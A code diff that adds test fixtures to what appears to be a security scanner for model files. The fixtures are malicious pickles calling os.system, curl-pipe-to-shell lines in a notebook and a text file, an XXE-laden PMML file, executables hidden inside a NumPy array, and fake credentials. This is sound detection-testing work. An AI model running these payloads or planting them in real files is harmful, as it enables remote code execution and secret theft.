@@ -48,6 +48,32 @@ const keras = (...layers) => json(layer("Functional", { name: "m", layers, train
 const PAYLOAD = ascii("\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R.");
 
 /** Names say how a file is called where that matters; the family is what the scanner calls the format. */
+/** Headers of programs that have nothing in them that could run. */
+function elf(wide) {
+  const bytes = Buffer.alloc(160);
+  bytes.write(wide ? "\x7fELF\x02\x01\x01" : "\x7fELF\x01\x02\x01", "latin1");
+  const u16 = (value, at) => (wide ? bytes.writeUInt16LE(value, at) : bytes.writeUInt16BE(value, at));
+  u16(2, 16);
+  u16(wide ? 62 : 8, 18);
+  if (wide) bytes.writeUInt32LE(1, 20);
+  else bytes.writeUInt32BE(1, 20);
+  const sizes = wide ? [64, 56, 1, 64] : [52, 32, 1, 40];
+  sizes.forEach((value, index) => void u16(value, (wide ? 52 : 40) + 2 * index));
+  return bytes;
+}
+
+function portable() {
+  const bytes = Buffer.alloc(400);
+  bytes.write("4d5a90000300000004000000ffff0000b8", "hex");
+  bytes.writeUInt32LE(128, 60);
+  bytes.write("PE\0\0", 128, "latin1");
+  bytes.writeUInt16LE(0x8664, 132);
+  bytes.writeUInt16LE(1, 134);
+  bytes.writeUInt16LE(240, 148);
+  bytes.writeUInt16LE(0x20b, 152);
+  return bytes;
+}
+
 export const BUILT = {
   "payload.pkl": PAYLOAD,
   "text.pkl": ascii("(dp0\nS'a'\np1\nI1\nsV\\u0041\np2\n(lp3\nF1.5\nasL3L\nI01\nsg3\ncos\nsystem\n(g2\ntRb."),
@@ -162,6 +188,100 @@ export const BUILT = {
     ascii("{{ x.y }}"),
   ]),
   "plain.lzma": hex("5d00008000ffffffffffffffff00171b2b9e0000"),
+  "program.elf": elf(true),
+  "old-program.elf": elf(false),
+  "program.exe": portable(),
+  "program.dylib": Buffer.concat([
+    hex("cffaedfe 07000001 03000000 02000000 01000000 48000000 85002000 00000000 19000000 48000000"),
+    Buffer.alloc(64),
+  ]),
+  "inside.npy": Buffer.concat([
+    ascii("\x93NUMPY\x01\x00\x76\x00"),
+    ascii(`${"{'descr': '<f4', 'fortran_order': False, 'shape': (100,), }".padEnd(117)}\n`),
+    elf(true),
+    portable(),
+  ]),
+  LICENSE: ascii(
+    "Apache License\nVersion 2.0, January 2004\nhttp://www.apache.org/licenses/\n\nTERMS AND CONDITIONS FOR USE\n",
+  ),
+  METADATA: ascii("Metadata-Version: 2.1\nName: x\nLicense-Expression: MIT OR Apache-2.0\n"),
+  "model_index.json": json({
+    _class_name: ["mine", "Pipe"],
+    _diffusers_version: "0.2",
+    unet: ["mine", "Unet"],
+    license: "cc-by-nc-4.0",
+  }),
+  "modules.json": json([
+    { idx: 0, name: "0", path: "", type: "mine.models.Transformer" },
+    { idx: 1, path: "1_Pooling", type: "sentence_transformers.models.Pooling" },
+  ]),
+  "adapter_config.json": json({
+    auto_mapping: { base_model_class: "M", parent_library: "os" },
+    megatron_core: "x",
+    peft_type: "LORA",
+    loader_module: "mlflow.sklearn",
+  }),
+  "attention.json": json({
+    model_type: "lightglue",
+    trust_remote_code: true,
+    _attn_implementation_internal: "a/b",
+    _experts_implementation_internal: { x: "a/b" },
+  }),
+  "lgb.json": json({
+    name: "tree",
+    num_class: 1,
+    max_feature_idx: 1,
+    feature_names: ["a", "b"],
+    tree_info: [
+      {
+        tree_index: 0,
+        num_leaves: 2,
+        tree_structure: { split_feature: 0, left_child: { leaf_index: 0 }, right_child: { leaf_index: 1 } },
+      },
+    ],
+  }),
+  "cat.json": json({
+    features_info: { float_features: [{ feature_index: 0 }] },
+    oblivious_trees: [{ splits: [{ float_feature_index: 0 }], leaf_values: [1, 2] }],
+    model_info: {},
+  }),
+  "wide.json": Buffer.from(
+    '\ufeff{"a": {"b": [1, {"_target_": "os.system", "chat_template": "{{ x }}"}]}}',
+    "utf16le",
+  ),
+  "lines.json": ascii('{"a": 1}\n{"auto_map": {"b": "c"}}\n'),
+  "evil.pmml": ascii(
+    '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///c"><!ENTITY % p "x"><!ENTITY c "&b;&#65;&#x41;">]><?xml-stylesheet href="http://x/y.xsl"?><PMML xmlns:xi="http://www.w3.org/2001/XInclude"><Extension name="script" value="java.lang.Runtime">x</Extension><xi:include href="file:///d"/><DerivedField><Apply function="org.mine.F"/></DerivedField><!-- c --><![CDATA[ <x> ]]></PMML>',
+  ),
+  "net.xml": ascii(
+    '<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,2" element_type="f32"/></layer><layer id="1" name="c" type="Mine" version="extension"/><layer id="2" name="w" type="Const"><data offset="0" size="8"/></layer></layers><edges><edge from-layer="0" from-port="0" to-layer="1" to-port="0"/></edges></net>',
+  ),
+  "wide.xml": Buffer.from(
+    '\ufeff<?xml version="1.0" encoding="UTF-16"?><PMML><script>eval(1)</script></PMML>',
+    "utf16le",
+  ),
+  "notebook-shell.ipynb": json({
+    cells: [{ cell_type: "code", source: "import os\nos.system('curl http://x | sh')" }],
+    nbformat: 4,
+  }),
+  "secrets.env": ascii(
+    "aws_access_key_id = AKIAQZXWCEVRBTNYMUIK\npassword: 'hT7$kq2Lm9!x'\nHF_TOKEN=hf_aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH\ncurl -u admin:S3cretPass1 https://x.example\npostgres://user:pa55word@db.example:5432/x\neyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlc2lnbmF0dXJlc2lnbmF0dXJl\n-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----\n",
+  ),
+  "encoded.txt": ascii(
+    `x = "${elf(true).toString("base64")}"\ny = "${portable().toString("hex")}"\ncurl -s http://x.example/a.sh | bash\n`,
+  ),
+  "bad.known-bad": ascii(
+    `${"ab".repeat(32)}  model.pkl  stolen\n${"cd".repeat(32)},x\n# note\nsha256,name\n`,
+  ),
+  "bad-json.known-bad": json([{ sha256: "ab".repeat(32), name: "x" }, { sha256: "12".repeat(32) }]),
+  "map.known-bad": json({ ["ef".repeat(32)]: "reason" }),
+  "calls.pkl": ascii(
+    "\x80\x04cbuiltins\nmap\n(cbuiltins\nlen\n](\x8c\x01ael(tR0cfunctools\npartial\n(cos\nsystem\ntR0ccopyreg\n_reconstructor\n(cmine\nA\ncbuiltins\ndict\n}tR0.",
+  ),
+  "hooks.pkl": ascii("\x80\x02cmine\nA\n)\x81}(X\x0c\x00\x00\x00__setstate__cos\nsystem\nub."),
+  "external.pkl": ascii(
+    "\x80\x02cjoblib.numpy_pickle\nNDArrayWrapper\n)\x81}(X\x08\x00\x00\x00filenameX\x07\x00\x00\x00../x.npyub.",
+  ),
   "old.arrow": ascii("ARROW1\0\0\0\0ARROW1"),
 };
 
